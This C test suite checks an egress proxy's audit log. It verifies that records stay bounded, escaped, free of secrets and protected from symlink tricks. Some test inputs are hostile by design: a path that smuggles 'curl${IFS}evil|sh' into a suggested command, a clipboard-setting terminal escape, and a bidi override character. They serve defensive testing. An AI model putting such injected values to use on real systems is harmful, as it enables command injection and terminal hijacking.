/* SPDX-License-Identifier: Apache-2.0
 * The audit log: whatever a proxy writes, the file holds one bounded, printable JSON object a line,
 * and says truly whose it is. */
#include <criterion/criterion.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#include "base/cleanup.h"
#include "base/fd.h"
#include "base/json.h"
#include "runtime/audit.h"
#include "runtime/secrets.h"
#include "tests/lib/in_child.h"

static char folder[64];
static int folder_fd;
static struct audit audit;

static void setup(void)
{
	struct err err = { "" };

	strcpy(folder, "/tmp/test_audit.XXXXXX");
	cr_assert_not_null(mkdtemp(folder));
	folder_fd = open(folder, O_PATH | O_DIRECTORY | O_CLOEXEC);
	cr_assert_eq(audit_open(folder_fd, "demo", "run1", &audit, &err), 0, "%s", err.text);
}

static void teardown(void)
{
	char command[128];

	audit_clear(&audit);
	close(folder_fd);
	snprintf(command, sizeof(command), "rm -rf %s", folder);
	cr_assert_eq(system(command), 0);
}

TestSuite(audit, .init = setup, .fini = teardown);

static void feed(const char *text)
{
	audit_feed(&audit, AUDIT_PROXY, text, strlen(text));
}

/* The file, whole. */
static const char *written(void)
{
	static struct buf buf;

	buf_clear(&buf);
	cr_assert_eq(file_read(folder_fd, "demo/egress.jsonl", 1 << 27, &buf, NULL), 0);
	return buf.data ? buf.data : "";
}

/* Line `index` of the file, parsed; NULL past its end. Every byte must be printable ASCII. */
static json_t *record(int index)
{
	const char *line = written();
	const char *end = strchr(line, '\n');
	json_t *value;

	for (; index > 0 && end; index--) {
		line = end + 1;
		end = strchr(line, '\n');
	}
	if (!end)
		return NULL;
	for (const char *c = line; c < end; c++)
		cr_assert(*c >= 0x20 && *c < 0x7f, "byte %02x", (unsigned char)*c);
	value = json_loadb(line, (size_t)(end - line), JSON_REJECT_DUPLICATES, NULL);
	cr_assert(json_is_object(value), "%.*s", (int)(end - line), line);
	return value;
}

/* Good until the next but three. */
static const char *text(int index, const char *key)
{
	static char found[4][AUDIT_LINE_MAX];
	static int next;
	cleanup_with(json_clear) json_t *value = record(index);
	const char *string;
	char *out = found[next++ % 4];

	cr_assert_not_null(value, "no record %d", index);
	string = json_string_value(json_object_get(value, key));
	snprintf(out, sizeof(found[0]), "%s", string ? string : "(none)");
	return out;
}

static int count_records(void)
{
	for (int count = 0;; count++) {
		cleanup_with(json_clear) json_t *value = record(count);

		if (!value)
			return count;
	}
}

/* ---- what is kept ---- */

Test(audit, a_record_is_kept_with_our_own_fields)
{
	feed("{\"ts\":\"2024-01-01T00:00:00.000Z\",\"event\":\"request\",\"verdict\":\"allow\","
	     "\"host\":\"a.example\",\"status\":200}\n");
	cr_assert_eq(count_records(), 1);
	cr_assert(str_starts(written(), "{\"ts\":\"2024-01-01T00:00:00.000Z\",\"run\":\"run1\","
					"\"source\":\"proxy\",\"event\":\"request\","));
	cr_assert_eq(audit.requests, 1);
	cr_assert_eq(audit.denied, 0);
}

/* What only one proxy writes comes through whole, numbers as numbers. */
Test(audit, request_id_and_phases_come_through)
{
	feed("{\"event\":\"request\",\"request_id\":\"5f3a09c2b1d47e86\",\"us\":{\"decision\":4,"
	     "\"total\":69500}}\n");
	cr_assert(str_ends(written(), ",\"request_id\":\"5f3a09c2b1d47e86\",\"us\":{\"decision\":4,"
				      "\"total\":69500}}\n"));
}

Test(audit, run_and_source_cannot_be_forged)
{
	feed("{\"run\":\"other\",\"source\":\"gate\",\"event\":\"request\"}\n");
	cr_assert_str_eq(text(0, "run"), "run1");
	cr_assert_str_eq(text(0, "source"), "proxy");
	audit_feed(&audit, AUDIT_GATE, "{\"event\":\"dns\"}\n", 16);
	cr_assert_str_eq(text(1, "source"), "gate");
}

Test(audit, a_missing_or_wrong_time_is_ours)
{
	feed("{\"event\":\"x\"}\n{\"ts\":7,\"event\":\"x\"}\n"
	     "{\"ts\":\"0123456789012345678901234567890123456789\"}\n");
	for (int i = 0; i < 3; i++) {
		cr_assert_eq(strlen(text(i, "ts")), 24);
		cr_assert(str_starts(text(i, "ts"), "20"));
	}
}

Test(audit, control_and_foreign_bytes_come_out_escaped)
{
	feed("{\"path\":\"/\\u001b[2J\x7f\xc3\xa9\xe2\x80\xae\"}\n");
	cr_assert_not_null(strstr(written(), "/\\u001B[2J\\u007f\\u00E9\\u202E"), "%s", written());
	cr_assert_str_eq(text(0, "path"), "/\x1b[2J\x7f\xc3\xa9\xe2\x80\xae");
}

Test(audit, lines_may_come_in_any_pieces)
{
	static const char two[] = "{\"event\":\"a\"}\n\n{\"event\":\"b\"}\n";

	for (size_t i = 0; i < sizeof(two) - 1; i++)
		audit_feed(&audit, AUDIT_PROXY, &two[i], 1);
	cr_assert_eq(count_records(), 2);
	cr_assert_str_eq(text(1, "event"), "b");
}

Test(audit, sources_do_not_mix_in_a_line)
{
	feed("{\"event\":");
	audit_feed(&audit, AUDIT_GATE, "{\"event\":\"dns\"}\n", 16);
	feed("\"request\"}\n");
	cr_assert_str_eq(text(0, "event"), "dns");
	cr_assert_str_eq(text(1, "event"), "request");
}

Test(audit, a_last_line_without_newline_counts)
{
	feed("{\"event\":\"request\",\"verdict\":\"deny\"}");
	cr_assert_eq(audit.denied, 0);
	audit_end(&audit, AUDIT_PROXY);
	cr_assert_eq(audit.denied, 1);
}

/* ---- what is not ---- */

static void expect_invalid(const char *line)
{
	int before = count_records();

	feed(line);
	feed("\n");
	cr_assert_eq(count_records(), before + 1, "%s", line);
	cr_assert_str_eq(text(before, "event"), "invalid");
	cr_assert_str_eq(text(before, "source"), "proxy");
}

Test(audit, no_record_is_said_to_be_none)
{
	char deep[200] = "";

	expect_invalid("Loading script /addon.py");
	expect_invalid("[1,2]");
	expect_invalid("\"text\"");
	expect_invalid("{\"a\":1,\"a\":2}");
	expect_invalid("{\"a\":1} {\"b\":2}");
	expect_invalid("{\"a\":\"\\u0000\"}");
	expect_invalid("{\"a\":\"\xff\"}");
	expect_invalid("{\"a\":1e999}");
	expect_invalid("{\"a\":");
	for (int i = 0; i < 20; i++)
		strcat(deep, "{\"a\":");
	strcat(deep, "1");
	for (int i = 0; i < 20; i++)
		strcat(deep, "}");
	expect_invalid(deep);
	cr_assert_eq(audit.invalid, 10);
	cr_assert_eq(audit.lost, 0);
}

Test(audit, an_excerpt_is_short_and_escaped)
{
	char line[1000] = "\x1b]52;c;evil\x07";

	memset(line + 12, 'x', 900);
	expect_invalid(line);
	cr_assert(strlen(text(0, "excerpt")) <= 200);
	cr_assert(str_starts(text(0, "excerpt"), "\\x1b]52;c;evil\\x07xxx"));
}

Test(audit, nul_bytes_are_no_end)
{
	audit_feed(&audit, AUDIT_PROXY, "{\"a\":1}\0{}\n", 11);
	cr_assert_str_eq(text(0, "event"), "invalid");
}

static char *padded(size_t len)
{
	static char line[AUDIT_LINE_MAX + 100];

	memset(line, 'x', len);
	memcpy(line, "{\"a\":\"", 6);
	memcpy(line + len - 2, "\"}", 3);
	return line;
}

Test(audit, a_line_of_16_kib_is_kept_a_longer_one_is_not)
{
	feed(padded(AUDIT_LINE_MAX));
	feed("\n");
	feed(padded(AUDIT_LINE_MAX + 1));
	feed("\n{\"event\":\"next\"}\n");
	cr_assert_eq(count_records(), 3);
	cr_assert_eq(strlen(text(0, "a")), AUDIT_LINE_MAX - 8);
	cr_assert_str_eq(text(1, "event"), "truncated");
	cr_assert_str_eq(text(1, "reason"), "line_too_long");
	cr_assert_str_eq(text(2, "event"), "next");
	cr_assert_eq(audit.lost, 1);
}

Test(audit, an_endless_line_is_noted_once)
{
	for (int i = 0; i < 200; i++)
		feed(padded(AUDIT_LINE_MAX));
	feed("\n{\"event\":\"next\"}\n");
	cr_assert_eq(count_records(), 2);
	cr_assert_str_eq(text(1, "event"), "next");
}

Test(audit, the_cap_is_said_once_and_holds)
{
	audit.max_bytes = 4096;
	for (int i = 0; i < 100; i++)
		feed("{\"event\":\"request\",\"verdict\":\"allow\",\"host\":\"a.example\"}\n");
	cr_assert(strlen(written()) <= 4096);
	cr_assert_str_eq(text(count_records() - 1, "reason"), "size_cap");
	cr_assert_eq(audit.lost, (uint64_t)(100 - (count_records() - 1)));
}

static int disk_is_full(void *arg)
{
	const struct rlimit limit = { 150, 150 };
	int before;

	(void)arg;
	signal(SIGXFSZ, SIG_IGN);
	if (setrlimit(RLIMIT_FSIZE, &limit) < 0)
		return 1;
	for (int i = 0; i < 5; i++)
		feed("{\"event\":\"request\",\"verdict\":\"allow\"}\n");
	before = (int)audit.lost;
	if (audit.write_errno != EFBIG) /* the first write was cut short: the run is to end */
		return 3;
	return before == 4 ? 0 : 2;
}

/* One record fits, the second is cut in the middle. */
Test(audit, a_full_disk_is_told)
{
	cr_assert_eq(in_child(disk_is_full, NULL), 0);
	audit.broken_line = true; /* as the child left it; here there is room again */
	feed("{\"event\":\"next\"}\n");
	cr_assert_not_null(strstr(written(), "\n{\"ts\""));
	cr_assert(str_ends(written(), "\"event\":\"next\"}\n"));
}

static int holds_token(void *arg)
{
	const struct secret_ref ref = { "TOKEN", NULL };
	struct secrets secrets;
	struct err err;

	(void)arg;
	setenv("TOKEN", "sekrit-token-value", 1);
	if (secrets_init(&secrets, &err) < 0 || secrets_take_env(&secrets, &ref, 1, &err) < 0)
		return 1;
	audit.secrets = &secrets;
	feed("{\"event\":\"request\",\"path\":\"/sekrit-token-value\",\"verdict\":\"deny\"}\n");
	feed("{\"path\":\"/s\\u0065krit-token-value\"}\n");
	feed("Authorization: Bearer sekrit-token-value\n");
	return audit.has_first ? 2 : 0;
}

Test(audit, a_token_is_never_written)
{
	cr_assert_eq(in_child(holds_token, NULL), 0);
	cr_assert_null(strstr(written(), "krit"));
	cr_assert_eq(count_records(), 3);
	for (int i = 0; i < 3; i++)
		cr_assert_str_eq(text(i, "reason"), "holds_a_token");
}

/* ---- the file ---- */

Test(audit, the_file_is_ours_alone)
{
	char path[128];
	struct stat st;

	snprintf(path, sizeof(path), "%s/demo", folder);
	cr_assert_eq(stat(path, &st), 0);
	cr_assert_eq(st.st_mode & 07777, 0700);
	strcat(path, "/egress.jsonl");
	cr_assert_eq(stat(path, &st), 0);
	cr_assert_eq(st.st_mode & 07777, 0600);
}

static void expect_refused(const char *name, int code)
{
	struct audit other;
	struct err err = { "" };

	cr_assert_eq(audit_open(folder_fd, name, "r", &other, &err), -code, "%s", err.text);
	cr_assert_not_null(strstr(err.text, name));
}

Test(audit, symlinks_and_odd_files_are_refused)
{
	cr_assert_eq(symlinkat("demo", folder_fd, "link"), 0);
	expect_refused("link", ELOOP);
	cr_assert_eq(mkdirat(folder_fd, "b", 0700), 0);
	cr_assert_eq(symlinkat("../demo/egress.jsonl", folder_fd, "b/egress.jsonl"), 0);
	expect_refused("b", ELOOP);
	cr_assert_eq(mkdirat(folder_fd, "c", 0700), 0);
	cr_assert_eq(linkat(folder_fd, "demo/egress.jsonl", folder_fd, "c/egress.jsonl", 0), 0);
	expect_refused("c", EPERM);
	cr_assert_eq(mkdirat(folder_fd, "d", 0700), 0);
	cr_assert_eq(mkfifoat(folder_fd, "d/egress.jsonl", 0600), 0);
	expect_refused("d", ENXIO); /* and did not wait for a reader */
}

Test(audit, a_later_run_appends)
{
	struct audit second;
	struct err err;

	feed("{\"event\":\"a\"}\n");
	cr_assert_eq(audit_open(folder_fd, "demo", "run2", &second, &err), 0);
	audit_feed(&second, AUDIT_PROXY, "{\"event\":\"b\"}\n", 14);
	audit_clear(&second);
	feed("{\"event\":\"c\"}\n");
	cr_assert_str_eq(text(0, "run"), "run1");
	cr_assert_str_eq(text(1, "run"), "run2");
	cr_assert_str_eq(text(2, "run"), "run1");
}

/* ---- the last line ---- */

static const char *summary(void)
{
	static char line[1024];

	audit_summary_line(&audit, NULL, line, sizeof(line));
	return line;
}

static void deny(const char *fields)
{
	feed("{\"event\":\"request\",\"verdict\":\"deny\",");
	feed(fields);
	feed("}\n");
}

Test(audit, nothing_refused_nothing_said)
{
	char line[16] = "x";

	feed("{\"event\":\"request\",\"verdict\":\"allow\"}\n");
	cr_assert(!audit_summary_line(&audit, NULL, line, sizeof(line)));
	cr_assert_str_eq(line, "");
}

Test(audit, the_first_refusal_is_said_with_what_allows_it)
{
	deny("\"reason\":\"path_not_allowed\",\"method\":\"GET\",\"host\":\"api.example.com\","
	     "\"port\":443,\"path\":\"/admin\"");
	deny("\"reason\":\"host_not_allowed\",\"host\":\"later.example\"");
	cr_assert_str_eq(summary(),
			 "2 requests refused; first: GET https://api.example.com/admin "
			 "(path_not_allowed); to allow it: --allow api.example.com/admin");
}

/* What is proposed must not take away the routes that the manifest has. */
Test(audit, a_manifest_that_was_found_is_named)
{
	char line[1024];

	deny("\"reason\":\"host_not_allowed\",\"host\":\"x.example\",\"port\":443");
	audit_summary_line(&audit, "bottle.yaml", line, sizeof(line));
	cr_assert(str_ends(line, "to allow it: -f bottle.yaml --allow x.example"), "%s", line);
	audit_summary_line(&audit, "/home/a b/bottle.yaml", line, sizeof(line));
	cr_assert(str_ends(line, "to allow it: -f MANIFEST --allow x.example"), "%s", line);
}

Test(audit, a_host_without_a_path)
{
	deny("\"reason\":\"host_not_allowed\",\"method\":\"CONNECT\",\"host\":\"x.example\","
	     "\"port\":8443");
	cr_assert_str_eq(summary(), "1 request refused; first: CONNECT x.example:8443 "
				    "(host_not_allowed); to allow it: --allow x.example:8443");
}

Test(audit, what_the_gate_left_out_counts)
{
	static const char line[] = "{\"event\":\"dns\",\"verdict\":\"deny\",\"host\":\"x.example\","
				   "\"reason\":\"not_routed\",\"suppressed\":4,\"lost\":2}\n";

	audit_feed(&audit, AUDIT_GATE, line, strlen(line));
	cr_assert_eq(audit.denied, 5);
	cr_assert_eq(audit.lost, 2);
	cr_assert_str_eq(summary(), "5 requests refused; first: x.example (not_routed); to allow "
				    "it: --allow x.example; 2 audit records lost");
	feed("{\"event\":\"x\",\"suppressed\":1000}\n"); /* a proxy has no say in that */
	cr_assert_eq(audit.denied, 5);
}

Test(audit, nothing_unsafe_is_proposed_to_paste)
{
	deny("\"reason\":\"path_not_allowed\",\"method\":\"GET\",\"host\":\"a.example\","
	     "\"path\":\"/x;curl${IFS}evil|sh\\u001b[8m\"");
	cr_assert_str_eq(summary(), "1 request refused; first: GET "
				    "https://a.example/x;curl${IFS}evil|sh\\x1b[8m "
				    "(path_not_allowed)");
}

Test(audit, what_the_option_would_refuse_is_not_proposed)
{
	deny("\"reason\":\"path_not_allowed\",\"method\":\"GET\",\"host\":\"a.example\","
	     "\"path\":\"/a%20b\"");
	cr_assert_str_eq(
		summary(),
		"1 request refused; first: GET https://a.example/a%20b (path_not_allowed)");
}

Test(audit, a_method_that_no_route_may_have_is_not_proposed)
{
	deny("\"reason\":\"method_not_allowed\",\"method\":\"get\",\"host\":\"a.example\","
	     "\"path\":\"/\"");
	cr_assert_null(strstr(summary(), "to allow it"), "%s", summary());
}

Test(audit, other_refusals_name_their_own_key)
{
	deny("\"reason\":\"git_push\",\"method\":\"POST\",\"host\":\"git.example\","
	     "\"path\":\"/r.git/git-receive-pack\"");
	cr_assert(str_ends(summary(), "; to allow it: `git: {push: true}` on the route for "
				      "git.example"));
}
